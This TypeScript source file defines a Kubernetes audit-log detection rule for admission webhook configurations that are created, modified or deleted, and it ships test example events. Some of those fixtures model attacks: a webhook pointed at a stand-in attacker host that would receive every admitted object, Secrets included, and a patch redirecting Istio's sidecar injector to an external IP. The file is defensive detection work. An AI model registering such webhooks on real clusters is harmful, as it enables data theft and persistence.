import { type AuditEvent } from '../../../kubernetes/auditEvent';
import { asArray, asObject, asString, getPath, type JsonObject, objectsAt } from '../../../kubernetes/jsonValues';
import { isJsonPatch } from '../../../kubernetes/patchDocuments';
import { objectName, writtenObject } from '../../../kubernetes/workloads';
import { type DetectionContext } from '../../detectionContext';
import { type AlertEntity, EntityType } from '../../entities';
import { auditEvent } from '../../exampleEvents';
import { isSystemRequest } from '../../predicates/identities';
import { apiGroupOf, isDelete, isResource, isWrite, succeeded } from '../../predicates/requests';
import { redactText } from '../../redaction';
import { requestEntities } from '../../requestEntities';
import { defineRule, Intent, Severity } from '../../rule';

const ADMISSION_GROUP = 'admissionregistration.k8s.io';
const MUTATING = 'mutatingwebhookconfigurations';
const VALIDATING = 'validatingwebhookconfigurations';
const WEBHOOK_RESOURCES: ReadonlySet<string> = new Set([MUTATING, VALIDATING]);

/** Top-level keys a CA-bundle patch may carry besides `webhooks` (identity of the object and patch directives). */
const CA_PATCH_ENVELOPE: ReadonlySet<string> = new Set(['apiVersion', 'kind', 'metadata', 'webhooks', '$setElementOrder/webhooks']);
const JSON_PATCH_CA_BUNDLE = /^\/webhooks\/\d+\/clientConfig\/caBundle$/;

function hasOnlyKeys(object: JsonObject | undefined, allowed: ReadonlySet<string>): boolean {
  return object !== undefined && Object.keys(object).every((key) => allowed.has(key));
}

/**
 * A patch that only rotates the CA bundle of existing webhooks, what cert-manager's cainjector and webhook servers do with their
 * own identity: it changes whom the API server trusts, not where requests go, so it is not reported.
 */
function isCaBundleOnlyPatch(event: AuditEvent): boolean {
  if (event.verb !== 'patch') return false;
  const request = event.requestObject;
  if (isJsonPatch(request)) {
    return (
      request.length > 0 &&
      request.every((operation) => {
        const op = asObject(operation);
        return (op?.op === 'replace' || op?.op === 'add') && JSON_PATCH_CA_BUNDLE.test(asString(op.path) ?? '');
      })
    );
  }
  const patch = asObject(request);
  if (!hasOnlyKeys(patch, CA_PATCH_ENVELOPE)) return false;
  const entries = asArray(patch?.webhooks);
  return (
    entries.length > 0 &&
    entries.every((entry) => {
      const webhook = asObject(entry);
      return (
        hasOnlyKeys(webhook, new Set(['name', 'clientConfig'])) &&
        hasOnlyKeys(asObject(webhook?.clientConfig), new Set(['caBundle'])) &&
        typeof getPath(webhook, 'clientConfig', 'caBundle') === 'string'
      );
    })
  );
}

interface WebhookTarget {
  webhook: string;
  service?: { namespace: string; name: string };
  /** `namespace/name:port/path` or the URL (redacted). */
  target: string;
  external: boolean;
}

/** Where each written webhook sends the objects it admits. Never the CA bundle. */
function webhookTargets(event: AuditEvent): WebhookTarget[] {
  return objectsAt(writtenObject(event), 'webhooks').flatMap((webhook, index): WebhookTarget[] => {
    const name = asString(webhook.name) ?? `webhooks[${index}]`;
    const url = asString(getPath(webhook, 'clientConfig', 'url'));
    if (url !== undefined) return [{ webhook: name, target: redactText(url), external: true }];
    const service = asObject(getPath(webhook, 'clientConfig', 'service'));
    const serviceName = asString(service?.name);
    const serviceNamespace = asString(service?.namespace);
    if (serviceName === undefined || serviceNamespace === undefined) return [];
    const port = typeof service?.port === 'number' ? `:${service.port}` : '';
    const path = asString(service?.path) ?? '';
    return [
      {
        webhook: name,
        service: { namespace: serviceNamespace, name: serviceName },
        target: redactText(`${serviceNamespace}/${serviceName}${port}${path}`),
        external: false,
      },
    ];
  });
}

function webhookNames(event: AuditEvent): string[] {
  return objectsAt(writtenObject(event), 'webhooks')
    .map((webhook) => asString(webhook.name))
    .filter((name): name is string => name !== undefined);
}

const webhookConfiguration = (kind: string, name: string, clientConfig: Record<string, unknown>): Record<string, unknown> => ({
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind,
  metadata: { name },
  webhooks: [
    {
      name: `${name}.contoso.com`,
      admissionReviewVersions: ['v1'],
      sideEffects: 'None',
      failurePolicy: 'Ignore',
      clientConfig: { ...clientConfig, caBundle: 'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUMuLi4KLS0tLS1FTkQgQ0VSVElGSUNBVEUtLS0tLQo=' },
      rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'], scope: '*' }],
    },
  ],
});

/**
 * A listed CA injector (cert-manager's cainjector writes by full update) refreshing an existing
 * configuration. It may not create or delete one: that is not CA rotation.
 */
function isCaInjectorUpdate(event: AuditEvent, context: DetectionContext): boolean {
  return (event.verb === 'update' || event.verb === 'patch') && context.lists.webhookCaInjectors.matches(event.user.username) && event.impersonatedUser === undefined;
}

export const admissionWebhookModified = defineRule({
  id: 'admission-webhook-modified',
  alertType: 'K8S_AdmissionController',
  displayName: 'Admission webhook configuration created or modified',
  description:
    'A user or workload that is not part of the cluster created, changed or deleted a mutating or validating admission webhook ' +
    'configuration. The API server sends every matching request to the webhook before storing it: a mutating webhook can change ' +
    'any pod (inject a container, mount the host), a validating webhook sees every object it matches, Secrets included, and ' +
    'deleting one switches a policy engine off. A patch that only rotates webhooks\' CA bundles is not reported.',
  // Informational as in Defender; severityFor raises a webhook that sends requests to a URL outside the cluster.
  severity: Severity.Informational,
  // Medium: a clientConfig.url target ships every admitted object, Secrets included, out of the cluster.
  severityFor: (event) => (!isDelete(event) && webhookTargets(event).some((target) => target.external) ? Severity.Medium : Severity.Informational),
  intent: Intent.Persistence,
  techniques: ['T1546', 'T1557'],
  remediation: [
    'Check that the webhook belongs to a component the cluster owners installed (a policy engine, a service mesh, cert-manager) and that its target service or URL is theirs.',
    'If it is not expected, delete the webhook configuration, then look for pods created or changed while it was active (injected containers, mounts, privileges).',
    'If a policy engine\'s webhook was deleted or loosened, restore it from its chart or GitOps source.',
    'Restrict write access to mutatingwebhookconfigurations and validatingwebhookconfigurations to cluster administrators and the controllers that manage their own webhooks.',
  ],
  falsePositives: [
    'Installing or upgrading an add-on that registers webhooks (cert-manager, Kyverno, Gatekeeper, Istio, Linkerd, KEDA) with Helm or GitOps.',
    'Controllers that rewrite their own webhook configuration (Kyverno, Istio) under service accounts missing from the systemIdentities list.',
  ],
  references: [
    'https://kubernetes.io/docs/reference/access-authn-authz/extensible-admission-controllers/',
    'https://learn.microsoft.com/azure/defender-for-cloud/alerts-containers',
    'https://attack.mitre.org/techniques/T1546/',
  ],
  equivalents: {
    defender: ['K8S_AdmissionController'],
    falco: [],
    guardDuty: [],
    elastic: ['Kubernetes Admission Webhook Created or Modified', 'Kubernetes Admission Controller Modification'],
  },
  resources: [...WEBHOOK_RESOURCES],
  match: (event, context) =>
    (isWrite(event) || isDelete(event)) &&
    isResource(event, WEBHOOK_RESOURCES) &&
    apiGroupOf(event) === ADMISSION_GROUP &&
    succeeded(event) &&
    !isSystemRequest(event, context) &&
    !isCaBundleOnlyPatch(event) &&
    !isCaInjectorUpdate(event, context),
  entities: (event) => {
    const entities: AlertEntity[] = requestEntities(event);
    for (const target of webhookTargets(event)) {
      if (target.service !== undefined) entities.push({ type: EntityType.service, name: target.service.name, namespace: target.service.namespace });
    }
    return entities;
  },
  details: (event) => {
    const details: Record<string, string> = {
      kind: event.objectRef?.resource === MUTATING ? 'mutating' : 'validating',
      configuration: objectName(event) ?? '',
      verb: event.verb,
    };
    const names = webhookNames(event);
    if (names.length > 0) details.webhooks = names.join(', ');
    const targets = webhookTargets(event);
    if (targets.length > 0) details.targets = targets.map((target) => `${target.webhook} -> ${target.target}`).join('; ');
    if (targets.some((target) => target.external)) details.externalUrl = 'true';
    return details;
  },
  dedupKey: (event) => `${event.objectRef?.resource ?? ''}|${objectName(event) ?? ''}|${event.user.username}`,
  examples: [
    {
      name: 'a developer registers a mutating webhook for pods',
      expect: 'alert',
      event: auditEvent({
        verb: 'create',
        resource: MUTATING,
        apiGroup: ADMISSION_GROUP,
        requestObject: webhookConfiguration('MutatingWebhookConfiguration', 'pod-defaults', {
          service: { namespace: 'default', name: 'pod-defaults', path: '/mutate', port: 443 },
        }),
      }),
    },
    {
      name: 'a workload registers a validating webhook that calls a URL outside the cluster',
      expect: 'alert',
      event: auditEvent({
        verb: 'create',
        resource: VALIDATING,
        apiGroup: ADMISSION_GROUP,
        user: 'system:serviceaccount:shop:web',
        requestObject: webhookConfiguration('ValidatingWebhookConfiguration', 'audit-copy', { url: 'https://collector.attacker.example/validate' }),
      }),
    },
    {
      name: 'a developer deletes the Gatekeeper validating webhook',
      expect: 'alert',
      event: auditEvent({ verb: 'delete', resource: VALIDATING, apiGroup: ADMISSION_GROUP, name: 'gatekeeper-validating-webhook-configuration' }),
    },
    {
      name: 'a JSON patch that points a webhook at a new URL and CA',
      expect: 'alert',
      event: auditEvent({
        verb: 'patch',
        resource: MUTATING,
        apiGroup: ADMISSION_GROUP,
        name: 'istio-sidecar-injector',
        requestObject: [
          { op: 'replace', path: '/webhooks/0/clientConfig/caBundle', value: 'TFMwdExTMUNSVWRKVGlCRFJWSlVTVVpKUTBGVVJTMHRMUzB0Q2c9PQ==' },
          { op: 'add', path: '/webhooks/0/clientConfig/url', value: 'https://203.0.113.50:8443/inject' },
        ],
      }),
    },
    {
      name: 'cert-manager cainjector rotates the CA bundle of a webhook',
      expect: 'none',
      event: auditEvent({
        verb: 'patch',
        resource: VALIDATING,
        apiGroup: ADMISSION_GROUP,
        name: 'cert-manager-webhook',
        user: 'system:serviceaccount:cert-manager:cert-manager-cainjector',
        userAgent: 'cainjector/v1.16.1 (linux/amd64) cert-manager/1a2b3c4d',
        requestObject: {
          apiVersion: 'admissionregistration.k8s.io/v1',
          kind: 'ValidatingWebhookConfiguration',
          metadata: { name: 'cert-manager-webhook' },
          webhooks: [{ name: 'webhook.cert-manager.io', clientConfig: { caBundle: 'TFMwdExTMUNSVWRKVGlCRFJWSlVTVVpKUTBGVVJTMHRMUzB0Q2c9PQ==' } }],
        },
      }),
    },
    {
      name: 'a JSON patch that only replaces CA bundles',
      expect: 'none',
      event: auditEvent({
        verb: 'patch',
        resource: MUTATING,
        apiGroup: ADMISSION_GROUP,
        name: 'keda-admission',
        requestObject: [{ op: 'replace', path: '/webhooks/0/clientConfig/caBundle', value: 'TFMwdExTMUNSVWRKVGlCRFJWSlVTVVpKUTBGVVJTMHRMUzB0Q2c9PQ==' }],
      }),
    },
    {
      name: 'Gatekeeper updates its own webhook configuration',
      expect: 'none',
      event: auditEvent({
        verb: 'update',
        resource: VALIDATING,
        apiGroup: ADMISSION_GROUP,
        name: 'gatekeeper-validating-webhook-configuration',
        user: 'system:serviceaccount:gatekeeper-system:gatekeeper-admin',
        requestObject: webhookConfiguration('ValidatingWebhookConfiguration', 'gatekeeper-validating-webhook-configuration', {
          service: { namespace: 'gatekeeper-system', name: 'gatekeeper-webhook-service', path: '/v1/admit' },
        }),
      }),
    },
    {
      name: 'a webhook registration that RBAC refused',
      expect: 'none',
      event: auditEvent({
        verb: 'create',
        resource: MUTATING,
        apiGroup: ADMISSION_GROUP,
        code: 403,
        requestObject: webhookConfiguration('MutatingWebhookConfiguration', 'pod-defaults', { service: { namespace: 'default', name: 'pod-defaults' } }),
      }),
    },
    {
      name: "cert-manager's cainjector writes the CA bundle back with a full update",
      expect: 'none',
      event: auditEvent({
        verb: 'update',
        resource: 'validatingwebhookconfigurations',
        apiGroup: 'admissionregistration.k8s.io',
        name: 'cert-manager-webhook',
        user: 'system:serviceaccount:cert-manager:cert-manager-cainjector',
      }),
    },
    {
      name: 'a CA injector identity deletes a webhook configuration',
      expect: 'alert',
      event: auditEvent({
        verb: 'delete',
        resource: 'validatingwebhookconfigurations',
        apiGroup: 'admissionregistration.k8s.io',
        name: 'gatekeeper-validating-webhook-configuration',
        user: 'system:serviceaccount:cert-manager:cert-manager-cainjector',
      }),
    },
  ],
});
